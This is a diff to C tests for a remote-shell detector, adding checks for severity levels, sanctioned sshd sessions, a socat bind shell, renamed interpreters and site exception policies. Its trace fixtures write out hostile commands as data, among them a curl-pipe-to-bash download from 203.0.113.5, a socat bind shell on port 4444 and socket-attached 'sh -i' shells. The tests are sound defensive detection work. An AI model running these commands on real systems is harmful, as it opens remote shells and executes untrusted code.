@@ -4,6 +4,8 @@
  * ssh-like login, a plain command, curl | sh). No BPF: it links against the core library only. */
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
+#include "interp.h"
 #include "judge.h"
 #include "score.h"
 #include "tap.h"
@@ -22,7 +24,8 @@ static void collect(void *ctx, struct alert *a)
 	ngot++;
 }
 
-static struct judge *fresh(bool scoring)
+static struct judge *fresh_with(bool scoring, enum severity min, const struct policy *pol,
+				bool show_suppressed)
 {
 	static struct ruleset rs;
 	char err[256];
@@ -32,12 +35,20 @@ static struct judge *fresh(bool scoring)
 		return NULL;
 	o.rules = &rs;
 	o.on_alert = collect;
+	o.min_severity = min;
+	o.policy = pol;
+	o.show_suppressed = show_suppressed;
 	if (scoring) {
 		o.model = score_model_default();
 		o.threshold = o.model ? o.model->threshold : 0.5;
 	}
 	ngot = 0;
 	return judge_new(&o);
+}
+
+static struct judge *fresh(bool scoring)
+{
+	return fresh_with(scoring, SEV_MEDIUM, NULL, false);
 }
 
 /* Feed trace lines, one per line of text; a line that does not parse fails the test. */
@@ -73,8 +84,11 @@ static void test_reverse_shell_child(void)
 		"execve pid=101 ppid=100 uid=0 t=5000 start=4000 comm=sh exe=/bin/sh argv=\"sh -i\" pstart=500 fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.1.2.3:4444 local0=10.0.0.2:40000 peer1=10.1.2.3:4444 local1=10.0.0.2:40000 peer2=10.1.2.3:4444 local2=10.0.0.2:40000 => 0\n");
 	CHECKF(ngot == 1, "%u alerts", ngot);
 	CHECK(got[0].pid == 101 && got[0].ppid == 100);
-	CHECKF((got[0].signals & (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET)) ==
-		       (SIG_RULE | SIG_STDIO_SOCKET | SIG_PARENT_SOCKET), "signals %x", got[0].signals);
+	CHECKF((got[0].signals & (SIG_RULE | SIG_STDIO_SOCKET | SIG_INTERPRETER | SIG_CMD_STDIN)) ==
+		       (SIG_RULE | SIG_STDIO_SOCKET | SIG_INTERPRETER | SIG_CMD_STDIN), "signals %x",
+	       got[0].signals);
+	CHECK(got[0].severity == SEV_HIGH && got[0].direction == DIR_OUTBOUND);
+	CHECK(!strcmp(got[0].interp, "sh") && got[0].interp_by == INTERP_BY_NAME);
 	CHECK(got[0].has_peer && got[0].peer.pport == 4444 && got[0].peer.lport == 40000);
 	CHECK(!strcmp(got[0].cmd, "sh -i") && !strcmp(got[0].exe, "/bin/sh"));
 	CHECK(!strcmp(got[0].host, "box") && got[0].exec_ns == 5000 && got[0].decided_ns == 5000);
@@ -138,10 +152,12 @@ static void test_login_is_quiet(void)
 	CHECKF(ngot == 0, "%u alerts after free", ngot);
 }
 
-/* A malicious-looking command alone is held for 200 ms of event time, then reported once. */
+/* A malicious-looking command alone is held for 200 ms of event time, then reported once, as
+ * low: shown only when asked for (--min-severity low), counted always. */
 static void test_score_only_is_held(void)
 {
-	struct judge *j = fresh(true);
+	struct judge *j = fresh_with(true, SEV_LOW, NULL, false);
+	struct judge_stats st;
 
 	if (!score_model_default()) {
 		CHECKF(0, "no embedded model");
@@ -153,11 +169,19 @@ static void test_score_only_is_held(void)
 	/* an unrelated event after the hold: time moved on, the held alert goes out first */
 	feed(j, "fork pid=1 ppid=0 t=1300000000 child=999\n");
 	CHECKF(ngot == 1, "%u alerts after the hold", ngot);
-	CHECK(ngot && got[0].pid == 400 && got[0].signals == SIG_SCORE && got[0].score >= 0);
+	CHECKF(ngot && got[0].pid == 400 && (got[0].signals & SIG_SCORE) && got[0].score >= 0 &&
+	       got[0].severity == SEV_LOW, "signals %x severity %d", got[0].signals, got[0].severity);
 	CHECKF(ngot && got[0].decided_ns == 1200000000ull, "decided at %llu",
 	       (unsigned long long)got[0].decided_ns);
 	judge_free(j);
 	CHECKF(ngot == 1, "%u alerts after free", ngot);
+	/* at the default minimum (medium) it is counted, not emitted */
+	j = fresh(true);
+	feed(j, "execve pid=400 ppid=1 t=1000000000 comm=bash exe=/bin/bash argv=\"bash -c curl -s http://203.0.113.5:8080/x.sh | bash\" fd0=tty fd1=tty fd2=tty => 0\n");
+	judge_finish(j);
+	judge_stats(j, &st);
+	CHECKF(ngot == 0 && st.by_severity[SEV_LOW] == 1 && st.below_min == 1, "%u alerts", ngot);
+	judge_free(j);
 }
 
 /* bash -c 'bash -i >& /dev/tcp/..': the suspicious parent is absorbed by the confirmed child. */
@@ -210,12 +234,17 @@ static void test_proc_scan(void)
 
 	feed(j, "proc pid=800 ppid=1 uid=1000 t=10 start=5 comm=bash exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=192.0.2.9:443 local0=10.0.0.2:5000\n");
 	CHECKF(ngot == 1, "%u alerts", ngot);
-	CHECK(ngot && got[0].pid == 800 && got[0].uid == 1000 && got[0].signals == SIG_STDIO_SOCKET);
+	CHECKF(ngot && got[0].pid == 800 && got[0].uid == 1000 &&
+	       (got[0].signals & SIG_STDIO_SOCKET) && got[0].severity == SEV_HIGH, "signals %x",
+	       got[0].signals);
 	CHECK(ngot && got[0].peer.pport == 443 && !strcmp(got[0].exe, "/usr/bin/bash"));
 	CHECK(ngot && got[0].exec_ns == got[0].decided_ns);
 	feed(j, "proc pid=801 ppid=800 uid=1000 t=10 comm=sh exe=/usr/bin/bash argv=\"bash -i\" fd0=sock:inet peer0=192.0.2.9:443\n");
 	CHECKF(ngot == 1, "%u alerts after the child", ngot);
-	feed(j, "proc pid=900 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=sock:inet peer0=192.0.2.9:443\n");
+	/* a script with a connection on stdin reads data; python reading stdin takes commands */
+	feed(j, "proc pid=890 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=\"python3 x.py\" fd0=sock:inet fd1=sock:inet peer0=192.0.2.9:443 peer1=192.0.2.9:443\n");
+	CHECKF(ngot == 1, "%u alerts after a script", ngot);
+	feed(j, "proc pid=900 ppid=1 uid=1000 t=10 comm=python3 exe=/usr/bin/python3 argv=python3 fd0=sock:inet fd1=sock:inet peer0=192.0.2.9:443 peer1=192.0.2.9:443\n");
 	CHECKF(ngot == 2, "%u alerts for another tree", ngot);
 	feed(j, "proc pid=950 ppid=1 uid=1000 t=10 comm=bash exe=/usr/bin/bash argv=-bash fd0=tty fd1=tty fd2=tty\n");
 	CHECKF(ngot == 2, "%u alerts after a terminal shell", ngot);
@@ -274,9 +303,181 @@ static void test_stdio_from_dups(void)
 	feed(j, "connect pid=50 ppid=1 t=1 fd=3 family=inet addr=127.0.0.1 port=9001 => 0\n"
 		"dup2 pid=50 ppid=1 t=2 fd=3 newfd=0 => 0\n"
 		"execve pid=50 ppid=1 t=3 exe=/bin/cat argv=cat => 0\n");
+	CHECKF(ngot == 0, "cat with the socket as input only: %u alerts", ngot);
+	feed(j, "fork pid=50 ppid=1 t=4 child=51\n"
+		"dup2 pid=51 ppid=50 t=5 fd=0 newfd=1 => 1\n"
+		"execve pid=51 ppid=50 t=6 exe=/bin/sh argv=sh => 0\n");
 	CHECKF(ngot == 1, "%u alerts", ngot);
-	CHECK(ngot && (got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 9001);
+	CHECK(ngot && (got[0].signals & SIG_STDIO_SOCKET) && got[0].peer.pport == 9001 &&
+	      got[0].severity == SEV_HIGH);
 	judge_free(j);
+}
+
+/* sshd: the listener accepts, its child re-executes sshd with the connection on stdin and stdout,
+ * the session starts a login shell on a terminal, `ssh -T` a shell reading pipes, `ssh host cmd` a
+ * -c shell: remote access by design, no alert; the counter says why. */
+static void test_sshd_is_sanctioned(void)
+{
+	struct judge *j = fresh(true);
+	struct judge_stats st;
+
+	feed(j, "proc pid=700 ppid=1 uid=0 t=1 comm=sshd exe=/usr/sbin/sshd argv=\"sshd: /usr/sbin/sshd -D [listener]\" fd0=other fd1=other fd2=other\n"
+		"accept4 pid=700 ppid=1 uid=0 t=2 comm=sshd fd=3 local=10.0.0.1:22 family=inet addr=192.0.2.7 port=51000 => 5\n"
+		"fork pid=700 ppid=1 uid=0 t=3 comm=sshd child=701\n"
+		"dup2 pid=701 ppid=700 uid=0 t=4 comm=sshd fd=5 newfd=0 sock=1 => 0\n"
+		"dup2 pid=701 ppid=700 uid=0 t=5 comm=sshd fd=0 newfd=1 sock=1 => 1\n"
+		"execve pid=701 ppid=700 uid=0 t=6 comm=sshd exe=/usr/sbin/sshd argv=\"/usr/sbin/sshd -D -R\" fd0=sock:inet fd1=sock:inet fd2=other peer0=192.0.2.7:51000 local0=10.0.0.1:22 peer1=192.0.2.7:51000 local1=10.0.0.1:22 => 0\n"
+		"fork pid=701 ppid=700 uid=0 t=7 comm=sshd child=702\n"
+		"execve pid=702 ppid=701 uid=1000 t=8 comm=bash exe=/bin/bash argv=-bash interp=bash interp_by=inode fd0=tty fd1=tty fd2=tty => 0\n"
+		"fork pid=701 ppid=700 uid=0 t=9 comm=sshd child=703\n"
+		"execve pid=703 ppid=701 uid=1000 t=10 comm=bash exe=/bin/bash argv=bash interp=bash interp_by=inode fd0=pipe fd1=pipe fd2=pipe pipe0=13:1 pipe1=13:2 pipe2=13:3 => 0\n"
+		"fork pid=701 ppid=700 uid=0 t=11 comm=sshd child=704\n"
+		"execve pid=704 ppid=701 uid=1000 t=12 comm=bash exe=/bin/bash argv=\"bash -c git-upload-pack '/srv/repo'\" fd0=pipe fd1=pipe fd2=pipe => 0\n");
+	judge_finish(j);
+	judge_stats(j, &st);
+	CHECKF(ngot == 0, "%u alerts, first %s pid %u", ngot, ngot ? alert_name(&got[0]) : "", got[0].pid);
+	CHECKF(st.sanctioned >= 2, "sanctioned %llu", (unsigned long long)st.sanctioned);
+	judge_free(j);
+}
+
+/* The same shapes without a sanctioned server are remote shells: a bind shell through socat. */
+static void test_socat_bind_shell(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "execve pid=720 ppid=1 t=1 comm=socat exe=/usr/bin/socat argv=\"socat TCP-LISTEN:4444,fork EXEC:/bin/sh\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"accept4 pid=720 ppid=1 t=2 comm=socat fd=5 local=127.0.0.1:4444 family=inet addr=127.0.0.1 port=50000 => 6\n"
+		"fork pid=720 ppid=1 t=3 comm=socat child=721\n"
+		"dup2 pid=721 ppid=720 t=4 fd=6 newfd=0 sock=1 => 0\n"
+		"dup2 pid=721 ppid=720 t=5 fd=6 newfd=1 sock=1 => 1\n"
+		"execve pid=721 ppid=720 t=6 comm=sh exe=/bin/sh argv=/bin/sh fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50000 local0=127.0.0.1:4444 peer1=127.0.0.1:50000 local1=127.0.0.1:4444 => 0\n");
+	CHECKF(ngot == 1 && got[0].severity == SEV_HIGH && got[0].direction == DIR_INBOUND,
+	       "%u alerts", ngot);
+	judge_free(j);
+}
+
+/* Network services that run programs: CGI (a script with the connection on stdio, and what it
+ * runs), an inetd-style date, git daemon: inbound, no interpreter taking commands: no alert. */
+static void test_services_are_quiet(void)
+{
+	struct judge *j = fresh(true);
+
+	feed(j, "execve pid=730 ppid=1 t=1 comm=python3 exe=/usr/bin/python3 argv=\"python3 -m http.server --cgi 8000\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"accept4 pid=730 ppid=1 t=2 comm=python3 fd=3 local=127.0.0.1:8000 family=inet addr=127.0.0.1 port=50001 => 4\n"
+		"fork pid=730 ppid=1 t=3 comm=python3 child=731\n"
+		"dup2 pid=731 ppid=730 t=4 fd=4 newfd=0 sock=1 => 0\n"
+		"dup2 pid=731 ppid=730 t=5 fd=4 newfd=1 sock=1 => 1\n"
+		"execve pid=731 ppid=730 t=6 comm=x.sh exe=/srv/cgi-bin/x.sh argv=\"/bin/sh /srv/cgi-bin/x.sh\" fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50001 local0=127.0.0.1:8000 peer1=127.0.0.1:50001 local1=127.0.0.1:8000 => 0\n"
+		"fork pid=731 ppid=730 t=7 child=732\n"
+		"execve pid=732 ppid=731 t=8 comm=date exe=/bin/date argv=date fd0=sock:inet fd1=sock:inet fd2=tty peer0=127.0.0.1:50001 local0=127.0.0.1:8000 peer1=127.0.0.1:50001 local1=127.0.0.1:8000 => 0\n"
+		"execve pid=740 ppid=1 t=9 comm=git exe=/usr/bin/git argv=\"git daemon --port=9418\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"accept pid=740 ppid=1 t=10 comm=git fd=3 local=127.0.0.1:9418 family=inet addr=127.0.0.1 port=50002 => 4\n"
+		"fork pid=740 ppid=1 t=11 comm=git child=741\n"
+		"dup2 pid=741 ppid=740 t=12 fd=4 newfd=0 sock=1 => 0\n"
+		"dup2 pid=741 ppid=740 t=13 fd=4 newfd=1 sock=1 => 1\n"
+		"execve pid=741 ppid=740 t=14 comm=git exe=/usr/bin/git argv=\"git daemon --serve\" fd0=sock:inet fd1=sock:inet fd2=other peer0=127.0.0.1:50002 local0=127.0.0.1:9418 peer1=127.0.0.1:50002 local1=127.0.0.1:9418 => 0\n"
+		/* a health check: the connection is only cat's input */
+		"connect pid=750 ppid=1 t=15 fd=3 family=inet addr=127.0.0.1 port=8080 => 0\n"
+		"dup2 pid=750 ppid=1 t=16 fd=3 newfd=0 sock=1 => 0\n"
+		"execve pid=750 ppid=1 t=17 comm=cat exe=/bin/cat argv=cat fd0=sock:inet fd1=pipe fd2=tty peer0=127.0.0.1:8080 local0=127.0.0.1:40000 => 0\n"
+		/* a server that runs sh -c per request */
+		"execve pid=760 ppid=1 t=18 comm=node exe=/usr/bin/node argv=\"node server.js\" fd0=tty fd1=tty fd2=tty => 0\n"
+		"accept4 pid=760 ppid=1 t=19 fd=20 local=127.0.0.1:3000 family=inet addr=127.0.0.1 port=50003 => 21\n"
+		"fork pid=760 ppid=1 t=20 child=761\n"
+		"execve pid=761 ppid=760 t=21 comm=sh exe=/bin/sh argv=\"/bin/sh -c echo hi\" fd0=pipe fd1=pipe fd2=pipe pipe0=13:50 pipe1=13:51 pipe2=13:52 => 0\n");
+	judge_finish(j);
+	CHECKF(ngot == 0, "%u alerts, first %s pid %u", ngot, ngot ? alert_name(&got[0]) : "", got[0].pid);
+	/* node's spawn('/bin/sh') reading the pipes: a bind shell */
+	feed(j, "fork pid=760 ppid=1 t=22 child=762\n"
+		"execve pid=762 ppid=760 t=23 comm=sh exe=/bin/sh argv=/bin/sh fd0=pipe fd1=pipe fd2=pipe pipe0=13:60 pipe1=13:61 pipe2=13:62 => 0\n");
+	CHECKF(ngot == 1 && got[0].pid == 762 && got[0].severity == SEV_HIGH &&
+	       (got[0].signals & SIG_HOLDS_SOCKET), "%u alerts", ngot);
+	judge_free(j);
+}
+
+/* A renamed interpreter is still one (the source identified it by build-id); busybox's shell
+ * applet is a shell, its nc is not. */
+static void test_identity(void)
+{
+	struct judge *j = fresh(false);
+
+	feed(j, "connect pid=800 ppid=1 t=1 fd=3 family=inet addr=10.0.0.9 port=443 => 0\n"
+		"execve pid=800 ppid=1 t=2 comm=x exe=/tmp/x argv=x interp=bash interp_by=build-id fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.0.0.9:443 local0=10.0.0.2:40001 peer1=10.0.0.9:443 local1=10.0.0.2:40001 => 0\n");
+	CHECKF(ngot == 1 && got[0].severity == SEV_HIGH && !strcmp(got[0].interp, "bash") &&
+	       got[0].interp_by == INTERP_BY_BUILDID, "%u alerts", ngot);
+	feed(j, "connect pid=810 ppid=1 t=3 fd=3 family=inet addr=10.0.0.9 port=443 => 0\n"
+		"execve pid=810 ppid=1 t=4 comm=sh exe=/bin/busybox argv=\"sh -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.0.0.9:443 local0=10.0.0.2:40002 peer1=10.0.0.9:443 local1=10.0.0.2:40002 => 0\n");
+	CHECKF(ngot == 2 && got[1].severity == SEV_HIGH && !strcmp(got[1].interp, "busybox sh"),
+	       "%u alerts, interp '%s'", ngot, got[1].interp);
+	feed(j, "execve pid=820 ppid=1 t=5 comm=nc exe=/bin/busybox argv=\"nc -l -p 80\" fd0=tty fd1=tty fd2=tty => 0\n");
+	CHECK(ngot == 2);
+	judge_free(j);
+}
+
+/* An unknown program on an outbound connection as its stdin and stdout: medium, held, emitted
+ * when the hold runs out; not at --min-severity high. */
+static void test_medium(void)
+{
+	static const char *const implant =
+		"connect pid=830 ppid=1 t=1000 fd=3 family=inet addr=203.0.113.7 port=8443 => 0\n"
+		"execve pid=830 ppid=1 t=2000 comm=implant exe=/tmp/.x/implant argv=implant fd0=sock:inet fd1=sock:inet fd2=tty peer0=203.0.113.7:8443 local0=10.0.0.2:41000 peer1=203.0.113.7:8443 local1=10.0.0.2:41000 => 0\n";
+	struct judge *j = fresh(false);
+	struct judge_stats st;
+
+	feed(j, implant);
+	CHECKF(ngot == 0, "%u alerts during the hold", ngot);
+	judge_tick(j, 1000000000ull);
+	CHECKF(ngot == 1 && got[0].severity == SEV_MEDIUM && got[0].direction == DIR_OUTBOUND,
+	       "%u alerts", ngot);
+	judge_free(j);
+	j = fresh_with(false, SEV_HIGH, NULL, false);
+	feed(j, implant);
+	judge_finish(j);
+	judge_stats(j, &st);
+	CHECK(ngot == 0 && st.by_severity[SEV_MEDIUM] == 1 && st.below_min == 1);
+	judge_free(j);
+}
+
+/* An exception suppresses what it matches, counted; shown marked with --show-suppressed; errors
+ * name file:line. */
+static void test_exceptions(void)
+{
+	static const char *const shell =
+		"connect pid=840 ppid=1 uid=0 t=1 fd=3 family=inet addr=10.20.30.40 port=9001 => 0\n"
+		"execve pid=840 ppid=1 uid=0 t=2 comm=bash exe=/bin/bash argv=\"bash -i\" fd0=sock:inet fd1=sock:inet fd2=sock:inet peer0=10.20.30.40:9001 local0=10.0.0.2:41001 peer1=10.20.30.40:9001 local1=10.0.0.2:41001 => 0\n";
+	char path[] = "/tmp/sw-exc-XXXXXX", why[256];
+	int fd = mkstemp(path);
+	FILE *f = fdopen(fd, "w");
+	struct policy *pol;
+	struct judge *j;
+	struct judge_stats st;
+
+	fprintf(f, "# site policy\nserver /opt/remote/bin/agentd\n"
+		   "allow interpreter=bash remote=10.20.0.0/16 port=9000-9100 user=0\n");
+	fclose(f);
+	pol = policy_load(path, why, sizeof(why));
+	CHECKF(pol != NULL, "%s", why);
+	j = fresh_with(false, SEV_MEDIUM, pol, false);
+	feed(j, shell);
+	judge_stats(j, &st);
+	CHECKF(ngot == 0 && st.suppressed == 1, "%u alerts", ngot);
+	judge_free(j);
+	j = fresh_with(false, SEV_MEDIUM, pol, true);
+	feed(j, shell);
+	CHECKF(ngot == 1 && got[0].suppressed_by && strstr(got[0].suppressed_by, ":3"),
+	       "%u alerts, by %s", ngot, ngot && got[0].suppressed_by ? got[0].suppressed_by : "-");
+	judge_free(j);
+	CHECK(policy_sanctioned(pol, "/opt/remote/bin/agentd") && policy_sanctioned(pol, "/usr/sbin/sshd"));
+	policy_free(pol);
+	f = fopen(path, "w");
+	fprintf(f, "allow exe=/x\nallow port=99999\n");
+	fclose(f);
+	CHECK(!policy_load(path, why, sizeof(why)) && strstr(why, ":2: port="));
+	f = fopen(path, "w");
+	fprintf(f, "deny exe=/x\n");
+	fclose(f);
+	CHECK(!policy_load(path, why, sizeof(why)) && strstr(why, ":1: expected"));
+	unlink(path);
 }
 
 /* Documentation and table agree: docs/run.md has every signal row the table prints. */
@@ -318,6 +519,12 @@ int main(void)
 	RUN(test_proc_scan);
 	RUN(test_pipe_relay);
 	RUN(test_stdio_from_dups);
+	RUN(test_sshd_is_sanctioned);
+	RUN(test_socat_bind_shell);
+	RUN(test_services_are_quiet);
+	RUN(test_identity);
+	RUN(test_medium);
+	RUN(test_exceptions);
 	RUN(test_signal_docs);
 	return tap_done();
 }
